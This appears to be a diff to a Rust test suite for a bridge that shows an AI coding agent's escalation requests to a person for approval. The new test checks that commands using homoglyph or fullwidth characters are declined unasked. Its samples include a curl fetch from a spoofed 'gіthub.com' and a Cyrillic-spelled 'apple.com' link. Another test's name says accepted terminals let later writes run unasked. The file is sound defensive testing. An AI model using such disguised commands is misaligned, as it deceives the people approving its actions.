@@ -5,6 +5,8 @@
 //! - A command or a reason carrying escape sequences, a bidirectional override or padding
 //!   lines is never shown to the client and nothing is written; a plain escalation still is
 //!   asked and written on accept.
+//! - A command whose words look like others (homoglyphs, fullwidth letters) is never shown;
+//!   text in one script is.
 //! - A file change is asked with what it writes, and a path outside the working directory is
 //!   named as such; a change too large to show whole is declined without asking.
 //! - An escalated terminal (`exec_command` with `tty: true`) is declined without asking: the
@@ -85,6 +87,19 @@ fn the_decision(v: &Value) -> &Value {
     }
 }
 
+/// The one decision of `v`, checked to be a decline made without asking the person, whose
+/// reason starts with `reason`; the question as the record keeps it.
+fn declined_unasked<'a>(v: &'a Value, reason: &str) -> &'a str {
+    let d = the_decision(v);
+    assert_eq!(
+        (&d["decision"], &d["byPerson"]),
+        (&json!("decline"), &json!(false)),
+        "{v}"
+    );
+    assert!(d["reason"].as_str().unwrap().starts_with(reason), "{v}");
+    d["asked"].as_str().unwrap()
+}
+
 /// Whether `s` holds a character no form may show (the checks of `security::shown`, as a
 /// test sees them: control, bidirectional and zero-width characters).
 fn holds_unshowable(s: &str) -> bool {
@@ -131,17 +146,7 @@ async fn a_command_or_reason_a_person_cannot_read_as_it_is_is_never_shown_and_no
     for (i, (target, cmd, reason)) in hostile.iter().enumerate() {
         let v = turn(&env, &mock, &s, &format!("h{i}"), escalation(cmd, reason)).await;
         assert!(!target.exists(), "written: {v}");
-        let d = the_decision(&v);
-        assert_eq!(
-            (&d["decision"], &d["byPerson"]),
-            (&json!("decline"), &json!(false)),
-            "{v}"
-        );
-        assert!(
-            d["reason"].as_str().unwrap().starts_with("not asked: "),
-            "{v}"
-        );
-        let asked = d["asked"].as_str().unwrap();
+        let asked = declined_unasked(&v, "not asked: ");
         assert!(!holds_unshowable(asked), "the record holds it: {asked:?}");
         assert!(asked.lines().count() <= 6, "{asked}");
     }
@@ -169,6 +174,78 @@ async fn a_command_or_reason_a_person_cannot_read_as_it_is_is_never_shown_and_no
     assert!(
         seen[0].contains(&format!("echo ok > '{}'", plain.display()))
             && !holds_unshowable(&seen[0]),
+        "{}",
+        seen[0]
+    );
+}
+
+/// A command whose words look like others (a Cyrillic `і` in `github.com`, Cyrillic letters
+/// spelling `apple.com`, fullwidth letters) is never shown and nothing is written: codex hands
+/// the command over as the model wrote it (the record holds the character, escaped). Text in
+/// one script (a Russian message) is still asked, shown as it is, and written on accept.
+#[tokio::test]
+async fn a_command_whose_words_look_like_others_is_never_shown_and_one_script_is() {
+    let env = TestEnv::new();
+    let mock = MockApi::start().await;
+    let person = Person::answering(Answer::Accept(true));
+    let s = serve(&env, &mock, person.clone()).await;
+    let hostile = [
+        (
+            "github.txt",
+            "curl -fsS https://g\u{456}thub.com/rust-lang/x.sh",
+            0x456,
+        ),
+        (
+            "apple.txt",
+            "open https://\u{430}\u{440}\u{440}\u{4cf}\u{435}.com",
+            0x430,
+        ),
+        ("wide.txt", "\u{ff45}\u{ff43}\u{ff48}\u{ff4f} hi", 0xff45),
+    ];
+    for (i, (name, tail, c)) in hostile.iter().enumerate() {
+        let target = outside(&env, name);
+        let cmd = format!("touch '{}'; {tail}", target.display());
+        let v = turn(
+            &env,
+            &mock,
+            &s,
+            &format!("l{i}"),
+            escalation(&cmd, "fetch it"),
+        )
+        .await;
+        assert!(!target.exists(), "written: {v}");
+        // what codex asked, as the record keeps it: the character escaped, not carried
+        let asked = declined_unasked(
+            &v,
+            "not asked: the question holds a word that looks like another",
+        );
+        let escaped = format!("\\u{{{c:x}}}");
+        assert!(
+            asked.contains(&escaped) && !asked.contains(char::from_u32(*c).unwrap()),
+            "{asked}"
+        );
+    }
+    assert_eq!(
+        person.asked(),
+        0,
+        "shown: {:?}",
+        person.seen.lock().unwrap()
+    );
+
+    // the control: a message in one script is asked, shown as it is, and written
+    let plain = outside(&env, "privet.txt");
+    let cmd = format!("echo 'привет, мир' > '{}'", plain.display());
+    let v = turn(&env, &mock, &s, "ru", escalation(&cmd, "написать файл")).await;
+    assert_eq!(the_decision(&v)["decision"], "acceptOnce", "{v}");
+    assert_eq!(
+        std::fs::read_to_string(&plain).unwrap().trim(),
+        "привет, мир",
+        "{v}"
+    );
+    let seen = person.seen.lock().unwrap().clone();
+    assert_eq!(seen.len(), 1, "{seen:?}");
+    assert!(
+        seen[0].contains("привет, мир") && seen[0].contains("написать файл"),
         "{}",
         seen[0]
     );
@@ -372,7 +449,7 @@ async fn codex_lets_an_accepted_terminal_run_later_writes_unasked_on_0_145_0() {
         .start_turn_with(
             &TurnParams {
                 thread: &opened.thread,
-                prompt: "run a shell",
+                prompt: &crate::support::bridge::prompt_of("run a shell"),
                 sandbox: None,
                 cwd: &dir,
                 model: None,
